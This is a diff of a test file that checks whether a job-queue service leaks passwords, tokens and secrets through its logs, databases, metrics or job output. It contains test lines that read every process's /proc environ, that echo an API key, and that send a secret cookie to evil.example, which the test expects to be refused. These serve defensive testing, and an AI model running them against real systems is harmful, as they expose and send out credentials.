@@ -1,25 +1,51 @@
 import { spawn } from "node:child_process";
 import { once } from "node:events";
 import { readFileSync } from "node:fs";
+import { mkdir, writeFile } from "node:fs/promises";
 import { constants } from "node:os";
+import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { Redis } from "ioredis";
 import { afterAll, beforeAll, expect, test } from "vitest";
+import { allAnswers, allKeys, allPages, allRows } from "../support/everything-told.ts";
 import { type OwnRedis, ownRedis } from "../support/own-servers.ts";
 import { type AppProcess, manageApps } from "../support/process.ts";
+import { callBadly, startEcho } from "../support/secret-calls.ts";
 import { type System, startSystem } from "../support/system.ts";
 import { waitFor } from "../support/wait.ts";
 
 /** Each is in one setting, and has characters that URLs, JSON and shells write in other ways. */
-const SQL_PASSWORD = 'sql"Secret/1%';
-const REDIS_PASSWORD = "redis@Secret:2é";
-const ROTATED = "rotated-Secret-3";
-const WRONG = "wrong-Secret-4";
-const OTHERS = "api-key-Secret-5";
-/** Part of each of them, however it is written. */
-const ANY = /Secret|U2VjcmV0|53656372/u;
+const SQL_PASSWORD = 'sql"Qz8Hush/1%';
+const REDIS_PASSWORD = "redis@Qz8Hush:2é";
+const ROTATED = "rotated-Qz8Hush-3";
+const WRONG = "wrong-Qz8Hush-4";
+const OTHERS = "api-key-Qz8Hush-5";
+const NAMED = 'named&Qz8Hush"6';
+const TOKEN = `mst_live_0123456789Ab_Qz8Hush7${"x".repeat(35)}_0aZ9bY`;
+const JWT = `${base64({ alg: "RS256" })}.${base64({ sub: "Qz8Hush-8", exp: 4_000_000_000 })}.Qz8Hush8signature`;
+/** Part of each of them. */
+const MARK = "Qz8Hush";
+/** However it is written: in base64 it stands at any of three places. */
+const ANY: string = [MARK, Buffer.from(MARK).toString("hex"), ...["", "_", "__"].map(inBase64)].join("|");
 const ROOT = fileURLToPath(new URL("../../", import.meta.url));
 const HANDLERS = `${ROOT}test/support/handlers/leaking.ts`;
+
+/** The digits that nothing around it changes. */
+function inBase64(before: string): string {
+  const digits = Buffer.from(`${before}${MARK}`).toString("base64url");
+  return digits.slice(
+    Math.ceil((before.length * 8) / 6),
+    Math.floor(((before.length + MARK.length) * 8) / 6),
+  );
+}
+
+function base64(claims: object): string {
+  return Buffer.from(JSON.stringify(claims)).toString("base64url");
+}
+
+/** Each with what stands around it. */
+const foundIn = (text: string): string[] =>
+  [...text.matchAll(new RegExp(`.{0,80}(?:${ANY}).{0,80}`, "gu"))].map(String);
 
 manageApps();
 
@@ -45,21 +71,9 @@ afterAll(async () => {
 });
 
 /** Everything of these processes that others get to see, as one text. Payloads are the callers' own. */
-async function seenOf(apps: readonly AppProcess[]): Promise<string> {
-  const rows = await system.query<{ text: string }>(
-    "SELECT (to_jsonb(t) - 'payload')::text AS text FROM jobs t UNION ALL SELECT to_jsonb(a)::text FROM task_attempts a UNION ALL SELECT to_jsonb(w)::text FROM workers w",
-  );
-  const keys = await admin.keys("*");
-  const values = await Promise.all(keys.map((key) => admin.dumpBuffer(key)));
-  const pages = await Promise.all(
-    apps.flatMap(({ metricsPort }) =>
-      ["metrics", "healthz", "readyz"].map(async (page) =>
-        (await fetch(`http://127.0.0.1:${metricsPort}/${page}`)).text(),
-      ),
-    ),
-  );
-  const said = apps.map((app) => app.output());
-  return [...said, ...rows.map(({ text }) => text), ...keys, ...values.map(String), ...pages].join("\n");
+async function seenOf(apps: readonly AppProcess[], said: readonly (() => string)[]): Promise<string> {
+  const told = await Promise.all([allRows(system), allKeys(admin), allPages(apps)]);
+  return [...said.map((all) => all()), ...told.flat()].join("\n");
 }
 
 /** Whether the process, or Node in it, does something when it gets the signal. */
@@ -79,13 +93,13 @@ async function run(
   api: AppProcess,
   type: string,
   json: object,
-): Promise<{ result: string; last_error: string }> {
+): Promise<{ status: string; result: string; last_error: string }> {
   const body = { case: "payload", value: Buffer.from(JSON.stringify(json)) } as const;
   const { jobId } = await system.client(api).submitJob({ job: { type, body, maxAttempts: 1 } });
   return waitFor(
     async () => {
-      const [row] = await system.query<{ result: string; last_error: string }>(
-        "SELECT result, last_error FROM jobs WHERE task_id = $1 AND finished_at IS NOT NULL",
+      const [row] = await system.query<{ status: string; result: string; last_error: string }>(
+        "SELECT status, result, last_error FROM jobs WHERE task_id = $1 AND finished_at IS NOT NULL",
         [jobId],
       );
       return row;
@@ -94,61 +108,96 @@ async function run(
   );
 }
 
-test("case D2, case G1: nothing of a secret is in what a job can read, at any level, also while it is rotated", async () => {
-  const env = { DATABASE_URL: databaseUrl, REDIS_URL: redisUrl, LOG_LEVEL: "trace" };
+test("case D2, case G1, case G6: nothing of a secret is in what a job can read, at any level, also while it is rotated", async () => {
+  using echo = await startEcho();
+  const folder = join(system.folder, "secrets");
+  await mkdir(folder);
+  await writeFile(join(folder, "stripe"), NAMED);
+  const env = { DATABASE_URL: databaseUrl, REDIS_URL: redisUrl };
   const [api, worker] = await Promise.all([
-    system.start("api", env),
+    system.start("api", { ...env, LOG_LEVEL: "trace" }),
     system.start("worker", {
       ...env,
+      LOG_LEVEL: "trace",
       DATABASE_URL: ofTwoHosts(databaseUrl),
       COMMAND_ALLOW: "sh",
+      COMMAND_ENV_ALLOW: "API_KEY",
       HANDLERS,
       HTTP_ALLOW_PRIVATE: "127.0.0.1",
       PAYMENT_API_KEY: OTHERS,
+      SECRETS_DIR: folder,
+      SECRETS_ALLOW: `stripe:spending*,stripe:http@${echo.url},stripe:command@sh`,
     }),
   ]);
+  const apps = [api, worker];
+  const said = apps.map((app) => app.keepOutput());
   // case D2: handlers know it, for they may use the same database; what they throw does not tell it.
-  for (const type of ["leaking", "leakingAlone"]) {
-    expect((await run(api, type, {})).last_error).toContain("cannot reach postgres");
-  }
-  await run(api, "http", { url: `http://user:${OTHERS}@127.0.0.1:1/?key=${OTHERS}` });
-  // case G1: the isolated process of the job before still lives.
-  // Not `Secret`, which would find this program itself.
+  const ended = await Promise.all([
+    ...["leaking", "leakingAlone"].map((type) => run(api, type, {})),
+    ...["spending", "spendingAlone"].flatMap((type) => [
+      run(api, type, { fail: true }),
+      run(api, type, { fail: false }),
+    ]),
+    run(api, "http", { url: `http://user:${OTHERS}@127.0.0.1:1/?key=${OTHERS}` }),
+    run(api, "http", { url: echo.url, headers: { authorization: "Bearer {{secret:stripe}}" } }),
+    run(api, "http", { url: echo.url, headers: { "x-fail": "1", cookie: "secret:stripe" } }),
+    run(api, "http", { url: "https://evil.example", headers: { cookie: "secret:stripe" } }),
+    run(api, "command", {
+      argv: ["sh", "-c", 'echo "$API_KEY"; echo "$API_KEY" >&2; exit 1'],
+      env: { API_KEY: "secret:stripe" },
+    }),
+  ]);
+  for (const { last_error: error } of ended.slice(0, 2)) expect(error).toContain("cannot reach postgres");
+  expect(ended.map(({ status }) => status).join(" ")).toBe(
+    "deadletter deadletter deadletter succeeded deadletter succeeded deadletter succeeded failed failed deadletter",
+  );
+  expect(ended.at(-2)?.last_error).toContain(
+    "secret:stripe is not allowed for jobs of type http@evil.example",
+  );
+  const answers = [...(await callBadly(api, [TOKEN, JWT])), ...(await allAnswers(system, api))];
+  await expectSealed(api, apps);
+  await admin.config("SET", "requirepass", ROTATED);
+  await admin.call("CLIENT", "KILL", "TYPE", "normal", "SKIPME", "yes");
+  for (const app of apps) await waitFor(() => app.output().includes("WRONGPASS"), { what: "a refusal" });
+  expect(foundIn(answers.join("\n"))).toEqual([]);
+  expect(foundIn(await seenOf(apps, said))).toEqual([]);
+});
+
+/** case G1: the isolated processes of the jobs before still live. */
+async function expectSealed(api: AppProcess, apps: readonly AppProcess[]): Promise<void> {
+  // Not the mark itself, which would find this program itself.
   const argv = [
     "sh",
     "-c",
-    "cat /proc/$0/environ | tr '\\0' '\\n'; grep -als '[S]ecret' /proc/[0-9]*/environ /proc/[0-9]*/cmdline; true",
+    "cat /proc/$0/environ | tr '\\0' '\\n'; grep -als '[Q]z8Hush' /proc/[0-9]*/environ /proc/[0-9]*/cmdline; true",
   ];
-  for (const { pid } of [api, worker]) {
+  for (const { pid } of apps) {
     const { result } = await run(api, "command", { argv: [...argv, String(pid)] });
     expect(JSON.parse(result)).toMatchObject({ stdout: expect.stringMatching(/^PATH=/mu) });
     expect(result).not.toContain("/proc/");
   }
   // By a SIGUSR1, any other Node process opens a debugger, which shows and runs everything.
-  for (const { pid } of [api, worker]) expect(hears(pid, constants.signals.SIGUSR1)).toBe(false);
-  await admin.config("SET", "requirepass", ROTATED);
-  await admin.call("CLIENT", "KILL", "TYPE", "normal", "SKIPME", "yes");
-  for (const app of [api, worker])
-    await waitFor(() => app.output().includes("WRONGPASS"), { what: "a refusal" });
-  expect(await seenOf([api, worker])).not.toMatch(ANY);
-});
+  for (const { pid } of apps) expect(hears(pid, constants.signals.SIGUSR1)).toBe(false);
+}
 
 test("case D2: no secret is told by a process that cannot use it: refused, unreachable, or no URL at all", async () => {
   const refused = `redis://:${WRONG}@127.0.0.1:${redis.port}`;
   const [api, worker] = await Promise.all([
-    system.start("api", { DATABASE_URL: ofTwoHosts(databaseUrl), REDIS_URL: refused, LOG_LEVEL: "trace" }),
+    system.start("api", { DATABASE_URL: ofTwoHosts(databaseUrl), REDIS_URL: refused, LOG_LEVEL: "debug" }),
     system.start("worker", {
       DATABASE_URL: databaseUrl,
       REDIS_URL: "",
       REDIS_HOST: "127.0.0.1",
       REDIS_PORT: String(redis.port),
       REDIS_PASSWORD: WRONG,
-      LOG_LEVEL: "trace",
+      LOG_LEVEL: "info",
     }),
   ]);
   for (const app of [api, worker])
     await waitFor(() => app.output().includes("WRONGPASS"), { what: "a refusal" });
-  expect(await seenOf([api, worker])).not.toMatch(ANY);
+  const apps = [api, worker];
+  const said = apps.map((app) => () => app.output());
+  expect(foundIn(await seenOf(apps, said))).toEqual([]);
   const urls = [
     `postgres://app:${WRONG}@127.0.0.1:1/none`,
     `postgres://app:${WRONG}/#@h:x/none`,
@@ -161,14 +210,18 @@ test("case D2: no secret is told by a process that cannot use it: refused, unrea
   const mains = ["api", "worker"].map((app) => `apps/${app}/src/main.ts`);
   const ended = await Promise.all([
     ...urls.map((DATABASE_URL) => tell("packages/db/src/migrate-main.ts", { DATABASE_URL })),
-    ...mains.map((main) =>
-      tell(main, { DATABASE_URL: `mysql://app:${WRONG}@h/d`, REDIS_URL: `:${WRONG}@h` }),
+    ...mains.map((main, index) =>
+      tell(main, {
+        DATABASE_URL: `mysql://app:${WRONG}@h/d`,
+        REDIS_URL: `:${WRONG}@h`,
+        LOG_LEVEL: ["error", "fatal"][index] ?? "silent",
+      }),
     ),
   ]);
   for (const { status, text } of ended) {
     expect(status).toBe(1);
     expect(text).toMatch(/wrong configuration|migrate failed/u);
-    expect(text).not.toMatch(ANY);
+    expect(foundIn(text)).toEqual([]);
   }
 });
 
